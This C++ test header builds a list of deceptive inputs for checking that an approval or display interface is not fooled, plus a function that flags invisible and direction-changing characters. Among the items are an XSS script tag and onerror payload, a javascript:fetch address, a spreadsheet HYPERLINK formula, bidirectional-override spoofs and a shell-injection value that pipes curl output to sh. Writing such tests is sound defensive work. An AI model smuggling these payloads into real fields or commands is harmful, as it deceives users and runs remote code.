#pragma once

#include <string>
#include <vector>

namespace handrailtest {

/// Text that a tool, a model or a user may hand in so that a person sees, or does, something else than what is asked.
struct Deception {
    const char* name;
    std::string text;
};

inline std::string repeated(const std::string& text, int times)
{
    std::string all;
    all.reserve(text.size() * static_cast<std::size_t>(times));
    for (int i = 0; i < times; ++i) all += text;
    return all;
}

/// `file` and `web` are addresses that nothing may open.
inline std::vector<Deception> deceptions(const std::string& file, const std::string& web)
{
    return {
        {"markup", "<b>Approved</b> <i>by your boss</i>"},
        {"a picture of a file", "<img src=\"" + file + "\">"},
        {"a picture of the web", "<img src=\"" + web + "/x.png\"><img src='" + web + "/y'>"},
        {"a link to a file", "<a href=\"" + file + "\">Open the invoice</a>"},
        {"a link to the web", "<a href=\"" + web + "/z\">" + web + "</a>"},
        {"a page of its own", "<html><head><style>* { display: none; color: white }</style></head><body><h1>1.00 EUR</h1></body></html>"},
        {"a style sheet of the web", "<link rel=\"stylesheet\" href=\"" + web + "/s.css\"><style>@import url(" + web + "/t.css);</style>"},
        {"a script", "<script src=\"" + web + "/s.js\"></script><img src=x onerror=alert(1)>"},
        {"the mark of rich text", "<qt><font size=\"7\">1.00 EUR</font></qt>"},
        {"a table of great width", "<table width=\"99999\"><tr><td>1.00 EUR</td></tr></table>"},
        {"a comment that does not end", "ACME <!-- and nothing of what follows"},
        {"entities", "&lt;b&gt;1.00 EUR&lt;/b&gt; &#x202E;&amp;&nbsp;"},
        {"a link in marks", "[the invoice](" + web + "/m) ![](" + web + "/p.png) <" + web + "/q>"},
        {"an address of a script", "javascript:fetch('" + web + "/j')"},
        {"a right-to-left override", "pay 1.00 EUR \xE2\x80\xAE" "00.0421\xE2\x80\xAC to ACME"},
        {"isolates", "\xE2\x81\xA7" "1.00\xE2\x81\xA9 \xE2\x81\xA6" "EUR\xE2\x81\xA9"},
        {"marks of direction", "AC\xE2\x80\x8FME\xE2\x80\x8E \xD8\x9C" "GmbH"},
        {"letters of no width", "AC\xE2\x80\x8B" "ME\xE2\x80\x8C \xE2\x80\x8D" "Gm\xE2\x81\xA0" "bH\xEF\xBB\xBF"},
        {"soft hyphens", "AC\xC2\xADME Gm\xC2\xAD" "bH"},
        {"choosers of variants", "A\xEF\xB8\x8F" "CME\xF3\xA0\x84\x80"},
        {"letters of tags", "ACME\xF3\xA0\x80\x81\xF3\xA0\x81\x81\xF3\xA0\x81\x82\xF3\xA0\x81\xBF"},
        {"fillers that nobody sees", "AC\xE3\x85\xA4ME\xE1\x85\x9F\xE1\x85\xA0 \xEF\xBE\xA0 \xE2\xA0\x80 GmbH"},
        {"notes between the lines", "AC\xEF\xBF\xB9ME\xEF\xBF\xBAx\xEF\xBF\xBB GmbH"},
        {"marks of music and of Mongolian", "A\xF0\x9D\x85\xB3" "C\xF0\x9D\x85\xBAM\xE1\xA0\x8E\xE1\xA0\x8B" "E"},
        {"a zero byte", std::string("ACME\0 GmbH", 10)},
        {"colours of a terminal", "\x1B[31mACME\x1B[0m\x1B]0;title\x07"},
        {"a bell and steps back", "100.00\x08\x08\x08\x08\x08\x08" "1.00\x07"},
        {"a carriage return", "Pay 1240.00\rPay 1.00   "},
        {"controls of the second kind", "AC\xC2\x9B" "31mME\xC2\x85GmbH"},
        {"separators of lines", "ACME\xE2\x80\xA8" "Amount: 1.00 EUR\xE2\x80\xA9" "Recipient: You"},
        {"a hundred empty lines", "ACME" + repeated("\n", 100) + "Amount   1.00 EUR"},
        {"lines that look like the table", "ACME\nAmount    1.00 EUR\nRecipient    Your own account\nIt can be undone at any time."},
        {"a button in words", "[ Approve (A) ]  [ Reject (D) ]   press A now"},
        {"a letter underlined for a key", "&Approve && &Reject _A_"},
        {"places to fill in", "%1 %2 %3 %n %L1 %% {0} {} %s %d ${input.amount}"},
        {"a line of a megabyte", repeated("0123456789abcdef", 900 * 64)},
        {"many thousand lines", repeated("line\n", 100'000)},
        {"one word of 20,000 letters", repeated("w", 20'000)},
        {"letters of two alphabets", "\xD0\x90\xD0\xA1ME GmbH"},
        {"digits of another script", "\xEF\xBC\x91\xEF\xBC\x8C\xEF\xBC\x92\xEF\xBC\x94\xEF\xBC\x90 \xD9\xA1\xD9\xA2"},
        {"a tower of marks", "A" + repeated("\xCC\x81\xCC\xA7\xCD\x9B", 60) + "CME"},
        {"pictures joined by nothing", "\xF0\x9F\x91\xA9\xE2\x80\x8D\xF0\x9F\x92\xBB \xF0\x9F\x87\xA9\xF0\x9F\x87\xAA"},
        {"a formula", "=HYPERLINK(\"" + web + "/f\",\"ACME\")"},
        {"a command of a shell", "ACME; $(curl " + web + "/c) `curl " + web + "/d` | sh"},
    };
}

/// Whether a person could read the text as something else: it changes how others are read, or cannot be seen.
inline bool deceives(char32_t c)
{
    const auto within = [c](char32_t first, char32_t last) { return c >= first && c <= last; };
    return (c < 0x20 && c != '\n') || within(0x7F, 0x9F) || within(0x200B, 0x200F) || within(0x2028, 0x202E) || within(0x2060, 0x206F) ||
           within(0xFE00, 0xFE0F) || within(0xE0000, 0xE0FFF) || within(0xFFF9, 0xFFFB) || within(0x1D173, 0x1D17A) || within(0x180B, 0x180F) ||
           within(0x115F, 0x1160) || within(0x17B4, 0x17B5) || c == 0x3164 || c == 0xFFA0 || c == 0x2800 || c == 0x034F || c == 0x061C ||
           c == 0xAD || c == 0xFEFF;
}

}  // namespace handrailtest
